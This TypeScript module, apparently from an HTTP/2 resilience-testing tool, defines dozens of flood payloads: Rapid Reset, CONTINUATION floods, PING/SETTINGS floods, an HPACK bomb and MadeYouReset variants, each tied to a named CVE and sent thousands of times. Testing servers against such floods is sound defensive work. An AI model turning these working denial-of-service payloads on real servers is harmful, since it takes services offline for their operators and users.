/**
 * Floods: frames that cost their sender little and a careless peer much. Each is a row: what a connection sends first, and then again and again. All frames
 * are such as the names of the attacks tell; nothing depends on what gateway is at the other end.
 */
import {
  CANCEL,
  data,
  field,
  FLAG,
  frame,
  headers,
  indexedField,
  ping,
  priority,
  requestBlock,
  rstStream,
  settings,
  TYPE,
  windowUpdate,
} from './frames.ts';

export interface Flood {
  readonly id: string;
  /** What it is, for people. */
  readonly title: string;
  /** Sent once, after the handshake. */
  readonly before: (scheme: string) => Buffer;
  /** The frames of repetition `n`, counted from 0. */
  readonly repeat: (n: number, scheme: string) => Buffer;
  readonly repetitions: number;
  /** True: nothing is read while it is sent, so that answers pile up. */
  readonly deaf?: boolean;
}

const REPETITIONS = 20_000;
/** Of those that are large or cost a request each. */
const REPETITIONS_FEW = 4_000;
/** Stream on which the floods play that need an open one. */
const STREAM = 1;
const NONE = Buffer.alloc(0);
const nothing = (): Buffer => NONE;
const get = (scheme: string): Buffer => requestBlock('GET', '/', scheme);
const post = (scheme: string): Buffer => requestBlock('POST', '/', scheme);
const openPost = (scheme: string): Buffer => headers(STREAM, post(scheme), false);
/** Streams of repetitions; clients' are odd. */
const streamOf = (n: number): number => 2 * n + 1;

const PING_PAYLOAD = Buffer.from('floods!!', 'latin1');
const BOMB_VALUE_BYTES = 3_900;
/** The first entry of the dynamic table (RFC 7541 §2.3.3). */
const NEWEST = 62;
const BOMB_FIELDS = 15_000;
const LONG_FIELD = field('x-long', 'a'.repeat(1_000));
const SETTINGS_ENTRIES = 100;
const PADDING_BYTES = 255;

/** Each stream is opened with a request that is whole but for its end, then made the peer's to reset (CVE-2025-8671). */
function madeYouReset(
  id: string,
  title: string,
  cause: (stream: number, scheme: string) => Buffer,
  ended = false,
): Flood {
  return {
    id: `made-you-reset/${id}`,
    title: `MadeYouReset by ${title}`,
    before: nothing,
    repeat: (n, scheme) => Buffer.concat([headers(streamOf(n), post(scheme), ended), cause(streamOf(n), scheme)]),
    repetitions: REPETITIONS_FEW,
  };
}

export const FLOODS: readonly Flood[] = [
  {
    id: 'rapid-reset',
    title: 'requests that are reset at once (CVE-2023-44487)',
    before: nothing,
    repeat: (n, scheme) => Buffer.concat([headers(streamOf(n), get(scheme), true), rstStream(streamOf(n), CANCEL)]),
    repetitions: REPETITIONS,
  },
  {
    id: 'rapid-reset/bodies',
    title: 'uploads that are reset after a part of the body',
    before: nothing,
    repeat: (n, scheme) => {
      const stream = streamOf(n);
      const part = data(stream, Buffer.alloc(100), false);
      return Buffer.concat([headers(stream, post(scheme), false), part, rstStream(stream, CANCEL)]);
    },
    repetitions: REPETITIONS,
  },
  {
    id: 'continuation/empty',
    title: 'a header block of empty parts without end (CVE-2024-27316)',
    before: (scheme) => frame(TYPE.headers, 0, STREAM, get(scheme)),
    repeat: () => frame(TYPE.continuation, 0, STREAM),
    repetitions: REPETITIONS,
  },
  {
    id: 'continuation/small',
    title: 'a header block of small fields without end',
    before: (scheme) => frame(TYPE.headers, FLAG.endStream, STREAM, get(scheme)),
    repeat: () => frame(TYPE.continuation, 0, STREAM, field('x', 'y')),
    repetitions: REPETITIONS,
  },
  {
    id: 'continuation/large',
    title: 'a header block of long fields without end',
    before: (scheme) => frame(TYPE.headers, FLAG.endStream, STREAM, get(scheme)),
    repeat: () => frame(TYPE.continuation, 0, STREAM, Buffer.concat(Array.from({ length: 15 }, () => LONG_FIELD))),
    repetitions: REPETITIONS_FEW,
  },
  {
    id: 'ping',
    title: 'PINGs (CVE-2019-9512)',
    before: nothing,
    repeat: () => ping(PING_PAYLOAD),
    repetitions: REPETITIONS,
  },
  {
    id: 'ping/deaf',
    title: 'PINGs whose answers are not read',
    before: nothing,
    repeat: () => ping(PING_PAYLOAD),
    repetitions: REPETITIONS,
    deaf: true,
  },
  {
    id: 'settings',
    title: 'empty SETTINGS (CVE-2019-9515)',
    before: nothing,
    repeat: () => settings([]),
    repetitions: REPETITIONS,
  },
  {
    id: 'settings/deaf',
    title: 'SETTINGS whose acknowledgements are not read',
    before: nothing,
    repeat: () => settings([]),
    repetitions: REPETITIONS,
    deaf: true,
  },
  {
    id: 'settings/many',
    title: 'SETTINGS of many entries that move every window',
    before: openPost,
    repeat: (n) => settings(Array.from({ length: SETTINGS_ENTRIES }, (_, i) => [4, 65_535 + ((n + i) % 2)] as const)),
    repetitions: REPETITIONS_FEW,
  },
  {
    id: 'settings/table-size',
    title: 'SETTINGS that change the size of the header table',
    before: nothing,
    repeat: (n) => settings([[1, n % 2 === 0 ? 0 : 4_096]]),
    repetitions: REPETITIONS,
  },
  {
    id: 'settings/acknowledgements',
    title: 'acknowledgements of SETTINGS that were not sent',
    before: nothing,
    repeat: () => frame(TYPE.settings, FLAG.ack, 0),
    repetitions: REPETITIONS,
  },
  {
    id: 'ping/acknowledgements',
    title: 'answers to PINGs that were not sent',
    before: nothing,
    repeat: () => frame(TYPE.ping, FLAG.ack, 0, PING_PAYLOAD),
    repetitions: REPETITIONS,
  },
  {
    id: 'empty/data',
    title: 'empty DATA without end (CVE-2019-9518)',
    before: openPost,
    repeat: () => data(STREAM, NONE, false),
    repetitions: REPETITIONS,
  },
  {
    id: 'empty/padded-data',
    title: 'DATA of padding alone',
    before: openPost,
    repeat: () =>
      frame(TYPE.data, FLAG.padded, STREAM, Buffer.concat([Buffer.from([PADDING_BYTES]), Buffer.alloc(PADDING_BYTES)])),
    repetitions: REPETITIONS_FEW,
  },
  {
    id: 'empty/headers',
    title: 'requests without any field',
    before: nothing,
    repeat: (n) => headers(streamOf(n), NONE, true),
    repetitions: REPETITIONS,
  },
  {
    id: 'priority',
    title: 'PRIORITY of idle streams',
    before: nothing,
    repeat: (n) => priority(streamOf(n), 0),
    repetitions: REPETITIONS,
  },
  {
    id: 'priority/shuffle',
    title: 'PRIORITY that turns a tree of streams over and over (CVE-2019-9513)',
    before: nothing,
    repeat: (n) => priority(streamOf(n % 100), streamOf((n + 1 + (n % 7)) % 100)),
    repetitions: REPETITIONS,
  },
  {
    id: 'window-update',
    title: 'WINDOW_UPDATE of the connection, one byte each',
    before: nothing,
    repeat: () => windowUpdate(0, 1),
    repetitions: REPETITIONS,
  },
  {
    id: 'window-update/stream',
    title: 'WINDOW_UPDATE of a stream, one byte each',
    before: openPost,
    repeat: () => windowUpdate(STREAM, 1),
    repetitions: REPETITIONS,
  },
  {
    id: 'window-update/closed',
    title: 'WINDOW_UPDATE of a stream that was reset',
    before: (scheme) => Buffer.concat([openPost(scheme), rstStream(STREAM, CANCEL)]),
    repeat: () => windowUpdate(STREAM, 1),
    repetitions: REPETITIONS,
  },
  {
    id: 'reset/closed',
    title: 'RST_STREAM of one stream again and again',
    before: openPost,
    repeat: () => rstStream(STREAM, CANCEL),
    repetitions: REPETITIONS,
  },
  {
    id: 'unknown-frames',
    title: 'frames of a type that does not exist',
    before: nothing,
    repeat: (n) => frame(0x20 + (n % 200), 0xff, 0, PING_PAYLOAD),
    repetitions: REPETITIONS,
  },
  {
    id: 'goaway',
    title: 'GOAWAY again and again while a request is open',
    before: openPost,
    repeat: () => frame(TYPE.goaway, 0, 0, Buffer.alloc(8)),
    repetitions: REPETITIONS,
  },
  {
    id: 'hpack-bomb',
    title: 'a long field in the table, named thousands of times in each request (CVE-2016-6581)',
    before: (scheme) =>
      headers(STREAM, Buffer.concat([get(scheme), field('x-bomb', 'b'.repeat(BOMB_VALUE_BYTES), true)]), true),
    repeat: (n, scheme) => {
      const block = Buffer.concat([get(scheme), Buffer.alloc(BOMB_FIELDS, indexedField(NEWEST))]);
      return headers(streamOf(n + 1), block, true);
    },
    repetitions: 500,
  },
  {
    id: 'hpack-bomb/below-the-limit',
    title: 'a long field in the table, named a few times in each of many requests',
    before: (scheme) =>
      headers(STREAM, Buffer.concat([get(scheme), field('x-bomb', 'b'.repeat(BOMB_VALUE_BYTES), true)]), true),
    repeat: (n, scheme) =>
      headers(streamOf(n + 1), Buffer.concat([get(scheme), Buffer.alloc(6, indexedField(NEWEST))]), true),
    repetitions: REPETITIONS_FEW,
  },
  {
    id: 'hpack/table-size',
    title: 'header blocks of changes of the table’s size',
    before: nothing,
    repeat: (n, scheme) => headers(streamOf(n), Buffer.concat([Buffer.alloc(8_000, 0x20), get(scheme)]), true),
    repetitions: REPETITIONS_FEW,
  },
  {
    id: 'hpack/evictions',
    title: 'fields that push each other out of the table',
    before: nothing,
    repeat: (n, scheme) => {
      const fields = Array.from({ length: 8 }, (_, i) => field(`x-${n % 50}-${i}`, 'e'.repeat(1_000), true));
      return headers(streamOf(n), requestBlock('GET', '/', scheme, fields), true);
    },
    repetitions: REPETITIONS_FEW,
  },
  {
    id: 'too-many-streams',
    title: 'requests without end, more than may be open',
    before: nothing,
    repeat: (n, scheme) => headers(streamOf(n), post(scheme), false),
    repetitions: REPETITIONS_FEW,
  },
  madeYouReset('window-of-zero', 'a WINDOW_UPDATE of nothing', (stream) => windowUpdate(stream, 0)),
  madeYouReset('window-overflow', 'windows beyond 2^31', (stream) => windowUpdate(stream, 0x7fff_ffff)),
  madeYouReset('priority-of-itself', 'a stream that depends on itself', (stream) => priority(stream, stream)),
  madeYouReset('priority-length', 'PRIORITY of a wrong length', (stream) =>
    frame(TYPE.priority, 0, stream, Buffer.alloc(4)),
  ),
  madeYouReset('data-after-end', 'DATA after the end', (stream) => data(stream, PING_PAYLOAD, false), true),
  madeYouReset('headers-after-end', 'HEADERS after the end', (stream) => headers(stream, field('x', 'y'), true), true),
  madeYouReset('trailers-without-end', 'trailers that do not end', (stream) => headers(stream, field('x', 'y'), false)),
  madeYouReset('pseudo-trailers', 'trailers with a method', (stream) => headers(stream, field(':method', 'GET'), true)),
  {
    id: 'made-you-reset/malformed',
    title: 'MadeYouReset by requests that are malformed',
    before: nothing,
    repeat: (n, scheme) => headers(streamOf(n), requestBlock('GET', '/', scheme, [field('connection', 'close')]), true),
    repetitions: REPETITIONS_FEW,
  },
  {
    id: 'made-you-reset/length',
    title: 'MadeYouReset by bodies longer than they say',
    before: nothing,
    repeat: (n, scheme) =>
      Buffer.concat([
        headers(streamOf(n), requestBlock('POST', '/', scheme, [field('content-length', '1')]), false),
        data(streamOf(n), PING_PAYLOAD, true),
      ]),
    repetitions: REPETITIONS_FEW,
  },
];
